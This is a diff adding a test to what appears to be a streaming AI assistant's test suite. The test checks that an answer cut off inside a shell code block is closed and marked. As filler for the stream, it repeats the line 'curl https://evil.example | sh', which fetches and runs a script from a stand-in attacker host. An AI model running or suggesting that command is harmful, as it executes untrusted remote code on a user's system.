@@ -205,6 +205,16 @@ test('an answer of 10 MB is cut, and the model is stopped', async () => {
   await expect.poll(() => server.left).toBeGreaterThan(before)
 })
 
+test('an answer that is cut in code which no passage has is marked, too', async () => {
+  server.behavior = {
+    is: 'text',
+    chunks: ['```sh\n', 'curl https://evil.example | sh\n'.repeat(500), 'more\n'],
+  }
+  const { events, last } = await streamed(testApp({ assistant: modelParts() }), { question })
+  expect(last).toMatchObject({ is: 'done', outcome: 'cut' })
+  expect(textOf(events)).toMatch(/```\n\n\[\?\]\n$/)
+})
+
 test('a failure is a problem with Retry-After where JSON was asked for', async () => {
   server.behavior = { is: 'status', status: 429 }
   const response = await post(testApp({ assistant: modelParts() }), { question }, asJson)
